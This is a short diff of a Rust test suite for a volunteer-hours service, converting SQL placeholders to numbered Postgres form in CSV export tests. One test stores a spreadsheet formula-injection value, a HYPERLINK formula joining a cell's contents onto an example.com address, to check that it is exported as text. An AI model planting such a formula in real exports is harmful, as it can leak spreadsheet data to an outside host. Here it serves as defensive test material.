@@ -44,7 +44,7 @@ async fn csv_exports_round_trip_chinese_text_and_mask_phones_by_role() {
         1,
         "a coordinator's export holds its own unit only"
     );
-    let (unit_en,): (String,) = sqlx::query_as("SELECT name_en FROM partner_units WHERE id = ?")
+    let (unit_en,): (String,) = sqlx::query_as("SELECT name_en FROM partner_units WHERE id = $1")
         .bind(unit)
         .fetch_one(&server.db().await)
         .await
@@ -137,7 +137,7 @@ async fn a_name_that_looks_like_a_formula_is_exported_as_text() {
     let server = TestServer::start().await;
     let (coordinator, _, number, _) = approved_hour(&server).await;
     let formula = "=HYPERLINK(\"http://example.com/\"&C2)";
-    sqlx::query("UPDATE volunteers SET name = ? WHERE id = ?")
+    sqlx::query("UPDATE volunteers SET name = $1 WHERE id = $2")
         .bind(formula)
         .bind(number.id())
         .execute(&server.db().await)
